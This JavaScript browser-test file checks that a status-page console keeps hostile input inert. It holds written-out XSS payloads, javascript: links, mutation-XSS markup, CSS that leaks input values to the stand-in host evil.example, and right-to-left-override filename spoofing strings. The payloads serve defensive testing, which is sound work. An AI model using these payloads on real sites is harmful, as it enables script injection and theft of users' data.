// What hostile people put into texts, opened by staff in the console: nothing of it runs, nothing leaves the screen. The numbers are
// those of the list of attacks the product is held against.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { awake, launch } from "../support/browser.mjs";
import { atWork, person, signIn } from "../support/console.mjs";
import { Lightship } from "../support/lightship.mjs";

const MARKUP = [
  '<img src=x onerror="window.__xss=1"><svg onload=window.__xss=1>',
  '</title></style></textarea></script>"><script>window.__xss=1</script>',
];

let lightship, browser, context, tab, outside, alerts, faults;
before(async () => {
  [lightship, browser] = await Promise.all([Lightship.start("demo"), launch()]);
  await lightship.end();
  await lightship.launch("serve");
  const owner = await person(lightship, "Olga", "owner");
  await lightship.cli("user", "add", "evil@reelway.example", "--name", MARKUP[0], "--role", "editor");
  ({ context, tab } = await signIn(browser, lightship, owner));
  await context.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  [outside, alerts, faults] = [[], [], tab.faults];
  context.on("request", (request) => request.url().startsWith(lightship.url) || /^(data|blob):/.test(request.url()) || outside.push(request.url()));
  tab.on("dialog", (dialog) => alerts.push(dialog.message()) && dialog.dismiss());
});
after(async () => {
  await browser?.close();
  await lightship?.stop();
});

/** Opens a screen: nothing ran, nothing wanted to run or to be fetched from elsewhere, no link runs code. */
async function harmless(path, at = tab) {
  await at.goto(lightship.url + path);
  await (path.startsWith("/console") ? atWork(at) : awake(at)).catch((error) => assert.fail(`${path}: ${error.message} ${faults.join("; ")}`));
  // Previews come a moment later.
  await at.waitForTimeout(400);
  const found = await at.evaluate(() => ({
    ran: window.__xss,
    violations: window.violations,
    links: [...document.querySelectorAll("a[href], use, form[action]")].map((it) => it.getAttribute("href") ?? it.getAttribute("action")).filter((href) => href && !/^(https?:|mailto:|[/?#])/.test(href)),
    handlers: [...document.querySelectorAll("*")].filter((it) => [...it.attributes].some((a) => a.name.startsWith("on"))).map((it) => it.outerHTML),
    // What runs on a screen carries the answer's nonce, or is a file of ours.
    strange: [...document.scripts].filter((it) => !it.nonce && !it.src.startsWith(location.origin) && location.pathname.startsWith("/console")).map((it) => it.outerHTML),
    foreign: document.querySelectorAll("body iframe, body object, body embed, body math, meta[http-equiv], img[src=x]").length,
  }));
  assert.deepEqual(found, { ran: undefined, violations: [], links: [], handlers: [], strange: [], foreign: 0 }, path);
  assert.deepEqual({ outside, alerts }, { outside: [], alerts: [] }, path);
}

const screens = ["", "/incidents", "/incidents/new", "/maintenance", "/maintenance/new", "/components", "/metrics", "/announcements", "/people", "/people/audit", "/people/tokens", "/settings", "/settings/look", "/settings/pages", "/settings/templates"];

/** An incident that says this in its title and in its texts, opened on its screen and wherever it is listed. */
async function said(payloads) {
  for (const payload of payloads) {
    const id = await lightship.cli("incident", "open", payload, "--component", "Search=degraded_performance", "--message", payload);
    await lightship.cli("incident", "update", id, "--message", `${payload}\n\n${payload}`);
    for (const screen of ["", "/incidents", `/incidents/${id}`, "/people/audit"]) await harmless(`/console/reelway${screen}`);
    await lightship.cli("incident", "resolve", id, "--message", payload);
    await harmless(`/console/reelway/incidents/${id}`);
  }
}

test("a017 markup in titles, texts and what is typed stays a text", async () => {
  await said(MARKUP);
  // What somebody types is shown beside what they type.
  await harmless("/console/reelway/incidents/new");
  await tab.getByRole("textbox", { name: "What to say" }).fill(`${MARKUP.join("\n\n")}\n\n**seen**`);
  await tab.locator(".preview strong").waitFor({ timeout: 5000 });
  assert.deepEqual(await tab.evaluate(() => [window.__xss, window.violations, document.querySelectorAll(".preview img, .preview svg, .preview script").length]), [undefined, [], 0]);
  await tab.getByRole("textbox", { name: "What to say" }).fill("");
});

test("a019 no link in a text runs code", () =>
  said([
    "[x](javascript:window.__xss=1) [x](JaVaScRiPt&colon;window.__xss=1) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)\n<javascript:window.__xss=1>\n[a]: javascript:x\n[a]\n[x](java\tscript:window.__xss=1)",
  ]));

test("a021 markup that changes its meaning when it is read twice stays harmless", () =>
  said([
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"><svg><a><set attributeName=href to=javascript:window.__xss=1></set><text y=30>x</text></a></svg>',
  ]));

test("a022 a picture from elsewhere is fetched by no screen", () => said(["![x](https://evil.example/p.gif) ![](//evil.example/p.gif) <img src=https://evil.example/p.gif>"]));

test("a023 a style sheet fetches nothing and ends nowhere but at its end", async () => {
  const evil = ["body{background:url(https://evil.example/?x)}", "@import url(//evil.example/a.css);", 'input[value^="a"]{background:url(//evil.example/a)}', "</style><script>window.__xss=1</script>", "\\3c/style\\3e<script>window.__xss=1</script>", "p{width:expression(alert(1))}"];
  for (const css of evil) {
    await harmless("/console/reelway/settings/look");
    await tab.getByLabel("CSS", { exact: true }).fill(css);
    await tab.getByRole("button", { name: "Save" }).click();
    await tab.locator(".said").getByText(/^(Saved|Not saved)/).first().waitFor({ timeout: 5000 });
    const visitor = await context.newPage();
    await harmless("/", visitor);
    assert.equal(await visitor.evaluate(() => document.querySelectorAll("style").length), 0, "it is a file of its own");
    await visitor.close();
  }
});

test("a026 HTML an owner puts around the page runs nothing", async () => {
  await harmless("/console/reelway/settings/look");
  await tab.getByLabel("CSS", { exact: true }).fill("");
  const above = tab.locator("section", { has: tab.getByRole("heading", { name: "Words around the page" }) });
  for (const box of await above.getByRole("checkbox").all()) await box.check();
  await tab.getByLabel("Above everything", { exact: true }).fill(`${MARKUP.join("")}<a href="javascript:window.__xss=1">x</a><iframe src=//evil.example></iframe><b>Welcome</b>`);
  await tab.getByRole("button", { name: "Save" }).click();
  await tab.locator(".said").getByText(/^Saved/).waitFor({ timeout: 5000 });
  const visitor = await context.newPage();
  await harmless("/", visitor);
  assert.ok((await visitor.textContent("body")).includes("Welcome"));
  await visitor.close();
  await harmless("/console/reelway/settings/look");
});

test("a018 markup in names and descriptions stays a text on every screen", async () => {
  for (const payload of MARKUP) {
    const answer = await fetch(`${lightship.url}/_test/words`, { method: "POST", body: payload });
    assert.deepEqual([answer.status, await answer.text()], [200, ""]);
    const snapshot = await (await fetch(`${lightship.url}/events/snapshot`)).json();
    const maintenance = snapshot.maintenances.find((it) => it.name === payload);
    const one = [`/components/${snapshot.components[0].id}`, `/maintenance/${maintenance.id}`, ...snapshot.metrics.slice(0, 1).map((it) => `/metrics/${it.id}`), ...snapshot.groups.slice(0, 1).map((it) => `/components/groups/${it.id}`)];
    for (const screen of [...screens, ...one]) await harmless(`/console/reelway${screen}`);
    await tab.goto(`${lightship.url}/console/reelway/components`);
    await atWork(tab);
    assert.ok((await tab.evaluate(() => document.body.innerText)).includes(payload), "it is shown as it was written");
  }
});

test("a031 names that turn or pile up characters disturb no other in a list", async () => {
  const pile = `Search${"\u0336\u0347\u0353\u0300".repeat(60)}`;
  await lightship.cli("incident", "open", pile, "--message", `\u202Ereversed ${pile}`);
  await lightship.cli("incident", "open", "paid \u202Egnp.exe", "--message", "A title that turns.");
  const answer = await fetch(`${lightship.url}/_test/words`, { method: "POST", body: `\u202E${pile}`.slice(0, 200) });
  assert.equal(answer.status, 200);
  for (const [screen, rows] of [["", ".events a, .events li"], ["/incidents", "main li, main tr"], ["/components", "main li, main tr"]]) {
    await harmless(`/console/reelway${screen}`);
    const heights = await tab.locator(rows).evaluateAll((all) => all.filter((it) => !it.querySelector("li, tr")).map((it) => it.getBoundingClientRect().height).filter((height) => height > 0));
    const usual = heights.toSorted((a, b) => a - b)[Math.floor(heights.length / 2)] ?? 40;
    assert.ok(Math.max(0, ...heights) <= 3 * Math.max(usual, 40), `${screen}: ${Math.max(...heights)} px beside ${usual} px`);
    assert.equal(await tab.evaluate(() => /[\u202A-\u202E]/.test(document.body.textContent)), false, `${screen}: nobody turns the text around it`);
  }
});
